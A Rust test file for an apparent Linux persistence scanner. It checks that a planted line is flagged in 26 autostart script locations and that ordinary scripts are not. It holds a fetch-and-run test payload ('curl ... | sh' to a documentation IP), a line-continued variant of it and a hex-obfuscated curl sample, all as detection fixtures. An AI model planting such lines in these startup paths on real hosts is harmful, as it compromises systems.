//! Any line of a script may be the one that matters, wherever the script stands.

use std::fmt::Write as _;

use firedamp::domain::detect::{Entry, Grade, judge_entry};
use firedamp::domain::facts::{AutostartChange, Gap, NotWhole, Packaged, Persistence, changes};
use firedamp::domain::playbook::Indicators;
use firedamp::host::probe::{Hunt, Roots};
use tempfile::{TempDir, tempdir};

use super::{hunted, write};

const PASSWD: &str = "root:x:0:0::/root:/bin/sh\na:x:1000:1000::/home/a:/bin/bash\n";
/// What no ordinary script has.
const BAD: &str = "curl -s http://198.51.100.7/c1 | sh";
/// Where scripts stand that are run or read line by line.
const SCRIPTS: [&str; 26] = [
    "etc/profile",
    "etc/profile.d/x.sh",
    "etc/bash.bashrc",
    "etc/zshrc",
    "etc/zsh/zshenv",
    "etc/fish/conf.d/x.fish",
    "etc/ssh/sshrc",
    "bin/.ssh/rc",
    "etc/update-motd.d/90-x",
    "etc/cron.daily/x",
    "etc/init.d/x",
    "etc/rc2.d/S01x",
    "etc/NetworkManager/dispatcher.d/50-x",
    "etc/network/if-up.d/x",
    "etc/dhcp/dhclient-exit-hooks.d/x",
    "etc/ppp/ip-up",
    "etc/initramfs-tools/hooks/x",
    "etc/kernel/postinst.d/x",
    "usr/lib/systemd/system-generators/x",
    "srv/app/.git/hooks/post-merge",
    "var/lib/cloud/scripts/per-boot/x",
    "etc/X11/Xsession.d/90x",
    "home/a/.config/plasma-workspace/env/x.sh",
    "home/a/.bashrc",
    "root/.profile",
    "etc/rc.local",
];

pub(super) fn tree(files: &[(&str, &str)]) -> TempDir {
    let root = tempdir().unwrap();
    write(root.path(), "etc/passwd", [PASSWD, "bin:x:2:2::/bin:/bin/sh\n"].concat());
    for (path, text) in files {
        write(root.path(), path, text);
        if let Some((repository, _)) = path.split_once("hooks/post-") {
            write(root.path(), &format!("{repository}HEAD"), "");
            write(root.path(), &format!("{repository}objects/x"), "");
        }
    }
    root
}

/// Paths of entries that are suspect, and what they say.
pub(super) fn suspects(found: &Persistence) -> Vec<(String, String)> {
    let suspect = found.entries.iter().filter(|it| {
        judge_entry(&Entry::of(it), &Indicators::default()).grade() >= Some(Grade::Suspect)
    });
    suspect.map(|it| (it.path.printable(), it.text.printable())).collect()
}

fn unread(root: &TempDir) -> Vec<(String, Option<Gap>)> {
    let mut hunt = Hunt::new(&Roots::recorded(root.path()), Box::new(|_| Packaged::Unknown));
    hunt.everywhere();
    hunt.unread().map(|it| (it.what.printable(), it.gap.clone())).collect()
}

/// A text of so many ordinary lines, then this one, then one more.
fn behind(count: usize, line: &str) -> String {
    let mut text = "#!/bin/sh\nlogger -t x started\n".to_owned();
    for at in 0..count {
        writeln!(text, "export A{at}=b{at}").unwrap();
    }
    text + line + "\nexit 0\n"
}

#[test]
fn a_line_behind_others_is_judged_in_every_script() {
    for path in SCRIPTS {
        for count in [0, 100, 300] {
            let root = tree(&[(path, &behind(count, BAD))]);
            let found = suspects(&hunted(root.path()));
            let wanted = format!("/{path}");
            assert!(found.iter().any(|it| it.0 == wanted), "{path} behind {count}: {found:?}");
        }
    }
}

#[test]
fn a_line_that_goes_on_in_the_next_is_one() {
    let text = "#!/bin/sh\ntrue\ncurl -s \\\n  http://198.51.100.7/c1 \\\n  | sh\n";
    let root = tree(&[("etc/profile.d/x.sh", text)]);
    assert_eq!(suspects(&hunted(root.path())).len(), 1);
}

#[test]
fn a_byte_that_no_text_has_makes_no_program_of_a_script() {
    let root = tree(&[("etc/cron.daily/x", &format!("#!/bin/sh\n# \0\n{BAD}\n"))]);
    assert_eq!(suspects(&hunted(root.path())).len(), 1);
}

#[test]
fn a_script_is_one_entry_and_shows_what_it_runs_first() {
    let root = tree(&[("etc/profile.d/x.sh", &behind(300, "/usr/bin/y   a\tb"))]);
    let found = hunted(root.path());
    let of_file: Vec<_> =
        found.entries.iter().filter(|it| it.path.printable() == "/etc/profile.d/x.sh").collect();
    let [entry] = of_file[..] else { panic!("{of_file:?}") };
    assert_eq!((entry.line, entry.first_line().printable().as_str()), (0, "logger -t x started"));
    assert!(entry.text.printable().contains("/usr/bin/y a b"), "words are one blank apart");
    assert!(entry.tricks.is_empty());
}

#[test]
fn a_line_that_is_added_to_a_script_is_one_change() {
    let root = tree(&[("etc/init.d/x", &behind(300, "true"))]);
    let before = hunted(root.path());
    write(root.path(), "etc/init.d/x", behind(300, BAD));
    let changed: Vec<_> = changes(&before, &hunted(root.path()))
        .into_iter()
        .map(|(what, it)| (what, it.path.printable()))
        .collect();
    assert_eq!(changed, [(AutostartChange::Changed, "/etc/init.d/x".to_owned())]);
}

#[test]
fn a_script_that_is_too_long_is_cut_and_that_is_said() {
    for path in ["etc/cron.daily/x", "etc/profile.d/x.sh", "home/a/.bashrc"] {
        let root = tree(&[(path, &behind(20_000, BAD))]);
        let cut = (format!("/{path}"), Some(Gap::NotWhole(NotWhole::Entries)));
        assert!(unread(&root).contains(&cut), "{path}: {:?}", unread(&root));
        assert!(hunted(root.path()).entries.len() < 250, "{path}");
        let whole = tree(&[(path, &behind(2_000, BAD))]);
        assert_eq!(unread(&whole), [], "{path}");
        assert!(!suspects(&hunted(whole.path())).is_empty(), "{path}");
    }
}

#[test]
fn more_lines_that_hide_than_are_entries_are_said() {
    let hides =
        |at| format!("echo {:02x}6375726c202d73206162632e6578616d706c65 | xxd -r -p\n", 0x41 + at);
    let text: String = (0..30).map(hides).collect();
    let root = tree(&[("etc/cron.daily/x", &text)]);
    assert!(unread(&root).iter().any(|it| it.0 == "/etc/cron.daily/x"), "{:?}", unread(&root));
}

#[test]
fn everyday_scripts_are_no_suspects() {
    let scripts = [
        (
            "etc/cron.daily/logs",
            "#!/bin/sh\nset -e\n[ -x /usr/sbin/rotate ] || exit 0\nif [ -d /run/systemd/system ]; then\n    exit 0\nfi\nfind /tmp -name 'sess_*' -mmin +60 -delete\n/usr/sbin/rotate /etc/rotate.conf\n",
        ),
        (
            "etc/profile.d/tools.sh",
            "if [ -d /opt/tools/bin ]; then\n  PATH=\"/opt/tools/bin:$PATH\"\nfi\nexport PATH\n[ -r \"$HOME/.toolsrc\" ] && . \"$HOME/.toolsrc\"\nalias ll='ls -l'\nunset i\n",
        ),
        (
            "etc/init.d/daemon",
            "#!/bin/sh\n### BEGIN INIT INFO\n### END INIT INFO\nPATH=/sbin:/usr/sbin:/bin:/usr/bin\nDAEMON=/usr/sbin/daemon\nPIDFILE=/var/run/daemon.pid\n. /lib/lsb/init-functions\ncase \"$1\" in\n  start)\n    start-stop-daemon --start --quiet --pidfile $PIDFILE --exec $DAEMON\n    ;;\n  stop)\n    start-stop-daemon --stop --quiet --pidfile $PIDFILE\n    rm -f \"$PIDFILE\"\n    ;;\n  *)\n    echo \"Usage: $0 {start|stop}\" >&2\n    exit 1\n    ;;\nesac\n",
        ),
        (
            "etc/update-motd.d/50-news",
            "#!/bin/sh\nurls=\"https://motd.example/\"\nCACHE=\"/var/cache/motd-news\"\ncurl --connect-timeout 3 -s -o \"$CACHE\" \"$urls\"\nhead -n 10 \"$CACHE\" | tr -d '\\000-\\011' | cut -c -80\n",
        ),
        (
            "etc/dhcp/dhclient-exit-hooks.d/resolv",
            "case $reason in\n  BOUND|RENEW)\n    new=$(mktemp /tmp/resolv.XXXXXX)\n    echo \"nameserver $new_domain_name_servers\" > \"$new\"\n    mv -f \"$new\" /etc/resolv.conf\n  ;;\nesac\n",
        ),
        (
            "srv/app/.git/hooks/pre-push",
            "#!/bin/sh\nremote=\"$1\"\ncommand -v git-lfs >/dev/null 2>&1 || { echo >&2 'no git-lfs'; exit 2; }\ngit lfs pre-push \"$@\"\nnpm test --silent\n",
        ),
    ];
    let root = tree(&scripts);
    assert_eq!(suspects(&hunted(root.path())), []);
}
